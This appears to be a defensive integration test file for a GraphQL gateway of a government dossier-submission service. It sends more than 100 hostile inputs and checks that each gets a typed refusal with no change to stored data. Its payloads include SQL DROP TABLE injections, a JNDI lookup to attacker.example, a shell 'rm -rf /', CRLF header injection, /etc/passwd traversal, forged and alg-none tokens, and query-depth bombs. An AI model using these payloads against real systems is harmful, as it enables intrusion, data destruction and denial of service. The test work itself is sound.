import { randomUUID } from 'node:crypto';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { decodeProtectedHeader, importPKCS8 } from 'jose';
import { Client } from 'pg';
import request, { type Response } from 'supertest';
import { demoRequiredComponents } from '@motcua/testing';
import { graphqlClient, startGatewayStack, type GatewayStack } from './support/gateway-stack';
import {
  signPlatformToken,
  staffClaims,
  testSigningKey,
  unsignedCopy,
} from './support/platform-token.factory';

/**
 * Hostile input through the gateway (issue 9): every case gets a typed refusal (HTTP 4xx with a
 * code, or a GraphQL error with `extensions.code`), never a 500, an INTERNAL error or a stack, and
 * after every case the stored data is byte-for-byte what it was.
 */

type Headers = Record<string, string>;
interface HostileCase {
  name: string;
  send: () => Promise<Response>;
  /** Codes the refusal may carry; any typed code when absent. */
  codes?: readonly string[];
  /** The request is answered normally (a harmless search, say), but nothing may change. */
  answered?: boolean;
  /** What the first error must say (proof it was refused for the reason under test). */
  message?: RegExp;
}

const OWNER = { account: 'citizen.hostile-owner', personalId: '001090012345' };
const OTHER = { account: 'citizen.hostile-other', personalId: '001185054321' };
const PROCEDURE = '1.001193';
const VALIDATION = ['VALIDATION_FAILED', 'BAD_USER_INPUT'];
const REFUSED_READ = ['NOT_FOUND', 'FORBIDDEN'];
const UNAUTHENTICATED = ['UNAUTHENTICATED'];

/** Text meant to break out of SQL, HTML, templates, shells, logs and paths. */
const INJECTIONS: Record<string, string> = {
  sql: "x'); DROP TABLE reception.dossier; --",
  sqlBoolean: "' OR '1'='1",
  html: '<script>alert(1)</script>',
  template: '${process.exit(1)}{{7*7}}#{7*7}',
  jndi: '${jndi:ldap://attacker.example/a}',
  shell: '$(rm -rf /); `reboot`',
  nul: 'abc\u0000def',
  crlf: 'abc\r\nSet-Cookie: x=1',
  traversal: '../../../../etc/passwd',
  bidi: 'abc\u202Egnp.exe',
};

describe('hostile input through the gateway', () => {
  let stack: GatewayStack;
  let gateway: NestFastifyApplication;
  let receiver: Headers;
  let supervisor: Headers;
  let hcmcReceiver: Headers;
  let owner: Headers;
  let other: Headers;
  let counterCode: string;
  let onlineCode: string;
  let component: string;
  let db: Client;
  let baseline: string;
  /** A signed upload link for a scan declared at 100 bytes. */
  let uploadPath: string;
  const { data } = graphqlClient(() => gateway);
  const server = () => gateway.getHttpServer();

  /** identity's signing key (read from its table, as only a test may): a genuine but stale token. */
  async function identityKey() {
    const kid = decodeProtectedHeader(receiver.authorization.slice(7)).kid!;
    const { rows } = await db.query<{ private_key_pem: string }>(
      'SELECT private_key_pem FROM identity.signing_key WHERE kid = $1',
      [kid],
    );
    return { kid, privateKey: await importPKCS8(rows[0].private_key_pem, 'ES256') };
  }

  const post = (body: string | Buffer | object, headers: Headers = {}, type = 'application/json') =>
    request(server())
      .post('/graphql')
      .set({ 'content-type': type, ...headers })
      .send(typeof body === 'object' && !Buffer.isBuffer(body) ? JSON.stringify(body) : body);
  const gql = (query: string, variables: Record<string, unknown> = {}, headers: Headers = {}) =>
    post({ query, variables }, headers);

  /** Every row of every table the services own, but the append-only access log, hashed. */
  async function fingerprint(): Promise<string> {
    const { rows: tables } = await db.query<{ name: string }>(
      `SELECT format('%I.%I', table_schema, table_name) AS name FROM information_schema.tables
        WHERE table_schema IN ('catalog', 'identity', 'reception') AND table_type = 'BASE TABLE'
          AND table_name NOT IN ('personal_data_access', 'migrations') ORDER BY 1`,
    );
    const parts: string[] = [];
    for (const { name } of tables) {
      const { rows } = await db.query<{ n: string; h: string | null }>(
        `SELECT count(*) AS n, md5(string_agg(md5(t::text), ',' ORDER BY md5(t::text))) AS h FROM ${name} t`,
      );
      parts.push(`${name}:${rows[0].n}:${rows[0].h ?? ''}`);
    }
    return parts.join('\n');
  }

  function expectTypedRefusal(res: Response, hostile: HostileCase): void {
    const text = res.text ?? '';
    expect(res.status).toBeLessThan(500);
    // Node's HTTP parser answers oversized headers itself, before the application, in plain text.
    if (res.status === 431) return;
    expect(text).not.toMatch(/\bat [^\n]+\.(js|ts):\d+/); // no stack frame
    expect(text).not.toMatch(/"stack"/);
    const body = JSON.parse(text) as {
      errors?: { message?: string; extensions?: { code?: string } }[];
      code?: string;
      error?: string;
    };
    const graphqlCodes = (body.errors ?? []).map((e) => e.extensions?.code);
    if (hostile.message) expect(body.errors?.[0]?.message).toMatch(hostile.message);
    expect(graphqlCodes).not.toContain('INTERNAL');
    if (hostile.answered) return;
    const codes = graphqlCodes.length ? graphqlCodes : [body.code ?? body.error];
    for (const code of codes) expect(typeof code).toBe('string');
    if (hostile.codes) for (const code of codes) expect(hostile.codes).toContain(code);
    if (!graphqlCodes.length) expect(res.status).toBeGreaterThanOrEqual(400);
  }

  const submitInput = (overrides: Record<string, unknown> = {}, applicant = {}) => ({
    idempotencyKey: `hostile-${randomUUID()}`,
    procedureCode: PROCEDURE,
    components: demoRequiredComponents(PROCEDURE),
    branchId: 'hn-ba-dinh',
    applicant: {
      fullName: 'Nguyễn Văn An',
      personalId: OWNER.personalId,
      phone: '0912345678',
      ...applicant,
    },
    ...overrides,
  });
  const SUBMIT = 'mutation($input: SubmitDossierInput!) { submitDossier(input: $input) { code } }';
  const submit = (input: Record<string, unknown>, headers: Headers = receiver) =>
    gql(SUBMIT, { input }, headers);

  beforeAll(async () => {
    stack = await startGatewayStack({
      database: 'gateway_hostile_input',
      services: ['catalog', 'identity', 'reception'],
      realms: ['hanoi', 'hcmc'],
      idpAccounts: {
        [OWNER.account]: { name: 'Nguyễn Văn An', personalId: OWNER.personalId },
        [OTHER.account]: { name: 'Trần Thị Bình', personalId: OTHER.personalId },
      },
    });
    gateway = stack.gateway;
    receiver = await stack.staffAuth('demo.hanoi.receiver', 'hanoi');
    supervisor = await stack.staffAuth('demo.hanoi.supervisor', 'hanoi');
    hcmcReceiver = await stack.staffAuth('demo.hcmc.receiver', 'hcmc');
    const citizen = stack.idp.issuers.citizen;
    owner = { authorization: await stack.tokenFor(OWNER.account, citizen), 'x-tenant': 'hanoi' };
    other = { authorization: await stack.tokenFor(OTHER.account, citizen), 'x-tenant': 'hanoi' };
    counterCode = (
      await data<{ submitDossier: { code: string } }>(SUBMIT, { input: submitInput() }, receiver)
    ).submitDossier.code;
    onlineCode = (
      await data<{ submitDossier: { code: string } }>(
        SUBMIT,
        { input: submitInput({ channel: 'ONLINE' }) },
        owner,
      )
    ).submitDossier.code;
    component = demoRequiredComponents(PROCEDURE)[0];
    const upload = await data<{ requestAttachmentUpload: { uploadUrl: string } }>(
      UPLOAD.replace('{ attachmentId }', '{ uploadUrl }'),
      { code: counterCode, component, file: 'scan.pdf', size: 100 },
      receiver,
    );
    const url = new URL(upload.requestAttachmentUpload.uploadUrl, 'http://gateway');
    uploadPath = `${url.pathname}${url.search}`;
    db = new Client({ connectionString: stack.db.url });
    await db.connect();
    baseline = await fingerprint();
  });

  afterAll(async () => {
    await db?.end();
    await stack?.close();
  });

  const cases: HostileCase[] = [];
  const add = (hostile: HostileCase) => cases.push(hostile);

  // --- the shape of the request -------------------------------------------------------------
  const deep = (depth: number) =>
    `{ __schema { types { ${'fields { type { '.repeat(depth)}name${' } }'.repeat(depth)} } } }`;
  add({
    name: 'depth bomb (introspection nested 30 deep)',
    send: () => gql(deep(15)),
    codes: ['GRAPHQL_VALIDATION_FAILED'],
    message: /query depth/,
  });
  add({
    name: 'depth bomb through fragments',
    send: () => {
      const names = Array.from({ length: 12 }, (_, i) => `F${i}`);
      const fragments = names.map(
        (name, i) =>
          `fragment ${name} on __Type { fields { type { ${names[i + 1] ? `...${names[i + 1]}` : 'name'} } } }`,
      );
      return gql(`query { __schema { types { ...F0 } } } ${fragments.join(' ')}`);
    },
    codes: ['GRAPHQL_VALIDATION_FAILED'],
    message: /query depth/,
  });
  add({
    name: 'fragment cycle',
    send: () =>
      gql(
        'query { tenants { ...A } } fragment A on Tenant { id ...B } fragment B on Tenant { name ...A }',
      ),
    codes: ['GRAPHQL_VALIDATION_FAILED'],
  });
  add({
    name: 'alias bomb (2,000 aliases of one field)',
    send: () =>
      gql(`{ ${Array.from({ length: 2000 }, (_, i) => `a${i}: tenants { id }`).join(' ')} }`),
    codes: ['GRAPHQL_VALIDATION_FAILED'],
    message: /2000 root fields exceed the limit/,
  });
  add({
    name: 'alias bomb of a public lookup (500 trackDossier)',
    send: () =>
      gql(
        `{ ${Array.from({ length: 500 }, (_, i) => `t${i}: trackDossier(code: "X", phone: "0912345678") { code }`).join(' ')} }`,
        {},
        { 'x-tenant': 'hanoi' },
      ),
    codes: ['GRAPHQL_VALIDATION_FAILED'],
    message: /500 root fields exceed the limit/,
  });
  add({
    name: 'field repetition bomb (20,000 selections)',
    send: () => gql(`{ tenants { ${'id '.repeat(20_000)} } }`),
    codes: ['GRAPHQL_VALIDATION_FAILED'],
    message: /field selections exceed the limit/,
  });
  add({
    name: 'directive repetition',
    send: () => gql(`{ tenants { id ${'@include(if: true) '.repeat(500)} } }`),
    codes: ['GRAPHQL_VALIDATION_FAILED'],
  });
  add({
    name: 'batched queries (array body)',
    send: () => post(Array.from({ length: 50 }, () => ({ query: '{ tenants { id } }' }))),
    codes: ['BAD_REQUEST'],
  });
  add({
    name: 'batched mutations (array body)',
    send: () =>
      post(
        Array.from({ length: 5 }, () => ({ query: SUBMIT, variables: { input: submitInput() } })),
        receiver,
      ),
    codes: ['BAD_REQUEST'],
  });
  add({
    name: 'query of 2 MB',
    send: () => post({ query: `{ tenants { id } } #${'x'.repeat(2_000_000)}` }),
  });
  add({
    name: 'body that is not JSON',
    send: () => post('{"query": "{ tenants { id } }"', {}),
    codes: ['BAD_REQUEST'],
  });
  add({
    name: 'body as text/plain',
    send: () => post('{ tenants { id } }', {}, 'text/plain'),
    codes: ['BAD_REQUEST'],
  });
  add({
    name: 'body with invalid UTF-8',
    send: () => post(Buffer.from([0x7b, 0x22, 0x71, 0xff, 0xfe, 0x22, 0x7d])),
    codes: ['BAD_REQUEST'],
  });
  add({
    name: 'invalid UTF-8 inside a variable',
    send: () => {
      const [head, tail] = JSON.stringify({
        query: SUBMIT,
        variables: { input: submitInput({}, { fullName: 'Nguy@@n Văn An' }) },
      }).split('@@');
      return post(
        Buffer.concat([Buffer.from(head), Buffer.from([0xc3, 0x28]), Buffer.from(tail)]),
        receiver,
      );
    },
    codes: ['BAD_REQUEST'],
  });
  add({
    name: 'JSON nested 100,000 deep',
    send: () =>
      post(
        `{"query":"{ tenants { id } }","variables":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
      ),
    codes: ['BAD_REQUEST', 'BAD_USER_INPUT'],
  });
  add({
    name: 'no query at all',
    send: () => post({ variables: {} }),
    codes: ['BAD_REQUEST', 'GRAPHQL_PARSE_FAILED'],
  });
  add({
    name: 'query that is not a string',
    send: () => post({ query: { a: 1 } }),
    codes: ['BAD_REQUEST', 'GRAPHQL_PARSE_FAILED'],
  });
  add({
    name: 'syntax error',
    send: () => gql('{ tenants { code '),
    codes: ['GRAPHQL_PARSE_FAILED'],
  });
  add({
    name: 'unknown field',
    send: () => gql('{ tenants { password } }'),
    codes: ['GRAPHQL_VALIDATION_FAILED'],
  });
  add({
    name: 'operationName not in the document',
    send: () => post({ query: 'query A { tenants { id } }', operationName: 'B' }),
    codes: ['BAD_REQUEST', 'GRAPHQL_VALIDATION_FAILED'],
  });
  add({
    name: 'two operations, no operationName',
    send: () => gql('query A { tenants { id } } query B { tenants { id } }'),
    codes: ['BAD_REQUEST', 'GRAPHQL_VALIDATION_FAILED'],
  });
  add({
    name: 'variables as an array',
    send: () => post({ query: SUBMIT, variables: [1, 2] }, receiver),
    codes: ['BAD_REQUEST', 'BAD_USER_INPUT'],
  });
  add({
    name: 'variable of the wrong type',
    send: () => gql(SUBMIT, { input: 42 }, receiver),
    codes: ['BAD_USER_INPUT'],
  });
  add({
    name: 'unknown input field',
    send: () => submit({ ...submitInput(), isAdmin: true }),
    codes: ['BAD_USER_INPUT'],
  });
  add({
    name: 'mutation over GET',
    send: () =>
      request(server())
        .get('/graphql')
        .query({ query: 'mutation { withdrawDossier(code: "X", reason: "y") { code } }' })
        .set(supervisor),
    codes: ['BAD_REQUEST', 'GRAPHQL_VALIDATION_FAILED'],
  });
  add({
    name: 'NUL bytes in the document',
    send: () => gql('{ tenants { id } }\u0000\u0000'),
    codes: ['GRAPHQL_PARSE_FAILED'],
  });

  // --- injection in every text field of a submission -----------------------------------------
  const applicantFields = ['fullName', 'personalId', 'phone', 'email'] as const;
  const inputFields = [
    'procedureCode',
    'branchId',
    'jurisdictionUnitCode',
    'returnBranchId',
    'representativePersonalId',
    'idempotencyKey',
  ] as const;
  for (const [kind, payload] of Object.entries(INJECTIONS)) {
    for (const field of applicantFields) {
      add({
        name: `submitDossier applicant.${field}: ${kind}`,
        send: () => submit(submitInput({}, { [field]: payload })),
        codes: VALIDATION,
      });
    }
    for (const field of inputFields) {
      add({
        name: `submitDossier ${field}: ${kind}`,
        send: () => submit(submitInput({ [field]: payload })),
        codes: [...VALIDATION, 'NOT_FOUND'],
      });
    }
    add({
      name: `submitDossier components[0]: ${kind}`,
      send: () => submit(submitInput({ components: [payload] })),
      codes: VALIDATION,
    });
  }
  for (const field of [
    ...applicantFields.filter((f) => f !== 'email'),
    'procedureCode',
    'branchId',
    'idempotencyKey',
  ] as const) {
    const long = 'A'.repeat(100_000);
    add({
      name: `submitDossier ${field} of 100,000 characters`,
      send: () =>
        submit(
          field === 'fullName' || field === 'personalId' || field === 'phone'
            ? submitInput({}, { [field]: long })
            : submitInput({ [field]: long }),
        ),
      codes: [...VALIDATION, 'NOT_FOUND'],
    });
  }

  // --- malformed personal IDs, phones and codes ----------------------------------------------
  for (const personalId of [
    '123',
    '0010900123456',
    '999090012345',
    'abcdefghijkl',
    '001090012345\n',
    '００１０９００１２３４５',
    '001 090 012345',
    '-01090012345',
    '1e11',
    '',
  ]) {
    add({
      name: `personal ID ${JSON.stringify(personalId)}`,
      send: () => submit(submitInput({}, { personalId })),
      codes: VALIDATION,
    });
  }
  for (const phone of ['123', '+1 555 0100', '09123456789012', 'phone', '0912345678; DROP', '']) {
    add({
      name: `phone ${JSON.stringify(phone)}`,
      send: () => submit(submitInput({}, { phone })),
      codes: VALIDATION,
    });
  }
  for (const email of [
    'not-an-email',
    'a@b',
    `${'a'.repeat(300)}@example.com`,
    'x@example.com\r\nBcc: y@example.com',
  ]) {
    add({
      name: `e-mail ${JSON.stringify(email.slice(0, 40))}`,
      send: () => submit(submitInput({}, { email })),
      codes: VALIDATION,
    });
  }
  for (const procedureCode of ['1.0011935', 'ABC', '1.001193 ', '*']) {
    add({
      name: `procedure code ${JSON.stringify(procedureCode)}`,
      send: () => submit(submitInput({ procedureCode })),
      codes: [...VALIDATION, 'NOT_FOUND'],
    });
  }
  const TRACK =
    'query($code: String!, $phone: String!) { trackDossier(code: $code, phone: $phone) { code status } }';
  for (const [code, phone] of [
    ["' OR 1=1 --", '0912345678'],
    ['X'.repeat(10_000), '0912345678'],
    ['000.00.00.H26-250101-0001', 'x'.repeat(10_000)],
    ['../../etc/passwd', '0912345678'],
  ]) {
    add({
      name: `trackDossier(${code.slice(0, 20)}, ${phone.slice(0, 12)})`,
      send: () => gql(TRACK, { code, phone }, { 'x-tenant': 'hanoi' }),
      codes: [...VALIDATION, 'NOT_FOUND'],
    });
  }
  add({
    name: 'rateDossier with a rating of 99',
    send: () =>
      gql(
        'mutation($code: String!) { rateDossier(code: $code, phone: "0912345678", rating: 99) { code } }',
        { code: counterCode },
        { 'x-tenant': 'hanoi' },
      ),
    codes: [...VALIDATION, 'ILLEGAL_TRANSITION'],
  });
  add({
    name: 'search with SQL injection (answered, nothing found, nothing changed)',
    send: () =>
      gql(
        'query($s: String) { procedures(search: $s) { edges { node { code } } } }',
        { s: INJECTIONS.sql },
        { 'x-tenant': 'hanoi' },
      ),
    answered: true,
  });
  add({
    name: 'page size of a million',
    send: () =>
      gql(
        '{ procedures(first: 1000000) { edges { node { code } } } }',
        {},
        { 'x-tenant': 'hanoi' },
      ),
    codes: VALIDATION,
  });
  add({
    name: 'forged paging cursor',
    send: () =>
      gql(
        'query($a: String) { procedures(after: $a) { edges { node { code } } } }',
        { a: "'; DROP TABLE x; --" },
        { 'x-tenant': 'hanoi' },
      ),
    codes: VALIDATION,
  });

  // --- file names and upload paths -----------------------------------------------------------
  const UPLOAD = `mutation($code: String!, $component: String!, $file: String!, $size: Int!) {
    requestAttachmentUpload(code: $code, componentName: $component, fileName: $file, contentType: PDF, size: $size) { attachmentId } }`;
  for (const file of [
    '../../../etc/passwd',
    '..\\..\\windows\\system32\\config',
    'scan/../../x.pdf',
    '%2e%2e%2fetc%2fpasswd',
    'scan\u0000.pdf',
    `${'a'.repeat(10_000)}.pdf`,
    '',
    '.',
  ]) {
    add({
      name: `upload file name ${JSON.stringify(file.slice(0, 30))}`,
      send: () => gql(UPLOAD, { code: counterCode, component, file, size: 100 }, receiver),
      codes: VALIDATION,
    });
  }
  add({
    name: 'upload of a negative size',
    send: () => gql(UPLOAD, { code: counterCode, component, file: 'a.pdf', size: -1 }, receiver),
    codes: VALIDATION,
  });
  add({
    name: 'upload of 2 GB declared',
    send: () =>
      gql(UPLOAD, { code: counterCode, component, file: 'a.pdf', size: 2_000_000_000 }, receiver),
    codes: VALIDATION,
  });
  add({
    name: 'upload of 11 MB, over the 10 MB limit',
    send: () =>
      request(server())
        .put(uploadPath)
        .set('content-type', 'application/pdf')
        .send(Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(11_000_000, 0x20)])),
    codes: ['PAYLOAD_TOO_LARGE'],
  });
  add({
    name: 'upload of an executable to a PDF link',
    send: () =>
      request(server())
        .put(uploadPath)
        .set('content-type', 'application/pdf')
        .send(Buffer.from('MZ\x90\x00 this is not a PDF')),
    codes: ['UNSUPPORTED_MEDIA_TYPE'],
  });
  add({
    name: 'upload PUT outside the signed path',
    send: () =>
      request(server())
        .put('/attachments/../../etc/passwd')
        .set('content-type', 'application/pdf')
        .send(Buffer.from('%PDF-1.4')),
  });
  add({
    name: 'upload PUT with an encoded traversal',
    send: () =>
      request(server())
        .put('/attachments/%2e%2e%2f%2e%2e%2fetc%2fpasswd')
        .set('content-type', 'application/pdf')
        .send(Buffer.from('%PDF-1.4')),
  });
  add({
    name: 'download GET with a forged token',
    send: () => request(server()).get('/attachments/eyJhbGciOiJub25lIn0.e30.'),
  });

  // --- tenants and tokens --------------------------------------------------------------------
  const TENANT = '{ procedures(first: 1) { edges { node { code } } } }';
  for (const tenant of ['atlantis', "hanoi'--", 'H'.repeat(10_000), '../hcmc', '']) {
    add({
      name: `x-tenant ${JSON.stringify(tenant.slice(0, 20))}`,
      send: () => gql(TENANT, {}, { 'x-tenant': tenant }),
      codes: [...VALIDATION, 'NOT_FOUND', 'BAD_REQUEST', 'TENANT_REQUIRED', 'UNKNOWN_TENANT'],
    });
  }
  const MINE = '{ myDossiers { edges { node { code } } } }';
  const forged = async () => signPlatformToken(await testSigningKey('forged-kid'), staffClaims());
  add({
    name: 'token signed by an unknown key',
    send: async () => gql(MINE, {}, { authorization: `Bearer ${await forged()}` }),
    codes: UNAUTHENTICATED,
  });
  add({
    name: 'token with alg none',
    send: async () =>
      gql(MINE, {}, { authorization: `Bearer ${unsignedCopy(receiver.authorization.slice(7))}` }),
    codes: UNAUTHENTICATED,
  });
  add({
    name: 'token with a tampered payload',
    send: async () => {
      const [h, , s] = receiver.authorization.slice(7).split('.');
      const payload = Buffer.from(
        JSON.stringify(staffClaims({ roles: ['TENANT_ADMIN'] })),
      ).toString('base64url');
      return gql(MINE, {}, { authorization: `Bearer ${h}.${payload}.${s}` });
    },
    codes: UNAUTHENTICATED,
  });
  add({
    name: 'expired token',
    send: async () => {
      const now = Math.floor(Date.now() / 1000);
      return gql(
        MINE,
        {},
        {
          authorization: `Bearer ${await signPlatformToken(await identityKey(), staffClaims(), { iat: now - 7200, ttlS: 600 })}`,
        },
      );
    },
    codes: UNAUTHENTICATED,
  });
  for (const authorization of [
    'Bearer ',
    'Bearer garbage',
    'Basic dXNlcjpwYXNz',
    `Bearer ${'a'.repeat(60_000)}`,
    'Bearer a.b.c',
    'Bearer  two  spaces',
  ]) {
    add({
      name: `authorization ${JSON.stringify(authorization.slice(0, 24))}`,
      send: () => gql(MINE, {}, { authorization }),
      codes: [...UNAUTHENTICATED, 'BAD_REQUEST'],
    });
  }

  // --- other tenants' and other owners' dossiers -------------------------------------------
  const DOSSIER = 'query($code: String!) { dossier(code: $code) { code applicant { fullName } } }';
  add({
    name: 'hcmc receiver reads a hanoi dossier',
    send: () => gql(DOSSIER, { code: counterCode }, hcmcReceiver),
    codes: REFUSED_READ,
  });
  add({
    name: 'hcmc receiver reads it naming hanoi',
    send: () => gql(DOSSIER, { code: counterCode }, { ...hcmcReceiver, 'x-tenant': 'hanoi' }),
    codes: REFUSED_READ,
  });
  add({
    name: 'another citizen reads an online dossier',
    send: () => gql(DOSSIER, { code: onlineCode }, other),
    codes: REFUSED_READ,
  });
  add({
    name: 'the owner reads a counter dossier of someone else’s submission by the receiver',
    send: () => gql(DOSSIER, { code: counterCode }, other),
    codes: REFUSED_READ,
  });
  add({
    name: 'anonymous reads a dossier',
    send: () => gql(DOSSIER, { code: counterCode }, { 'x-tenant': 'hanoi' }),
    codes: [...UNAUTHENTICATED, ...REFUSED_READ],
  });
  add({
    name: 'a citizen reads the access log',
    send: () => gql('{ personalDataAccessLog { edges { node { dossierCode } } } }', {}, owner),
    codes: REFUSED_READ,
  });
  add({
    name: 'a citizen withdraws a dossier',
    send: () =>
      gql(
        'mutation($code: String!) { withdrawDossier(code: $code, reason: "x") { code } }',
        { code: onlineCode },
        owner,
      ),
    codes: REFUSED_READ,
  });
  add({
    name: 'hcmc receiver refuses a hanoi dossier',
    send: () =>
      gql(
        'mutation($code: String!) { refuseDossier(code: $code, reasons: ["x"]) { code } }',
        { code: counterCode },
        hcmcReceiver,
      ),
    codes: REFUSED_READ,
  });
  add({
    name: 'a citizen submits at a counter branch for someone else',
    send: () => submit(submitInput({ channel: 'ONLINE' }, { personalId: OTHER.personalId }), owner),
    codes: ['FORBIDDEN', ...VALIDATION],
  });
  add({
    name: 'a receiver submits at another branch',
    send: () => submit(submitInput({ branchId: 'hn-dong-da' })),
    codes: ['FORBIDDEN'],
  });

  it(`has at least 100 cases (${cases.length})`, () => {
    expect(cases.length).toBeGreaterThanOrEqual(100);
  });

  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, hostile) => {
    const res = await hostile.send();
    expectTypedRefusal(res, hostile);
    expect(await fingerprint()).toBe(baseline);
  });
});
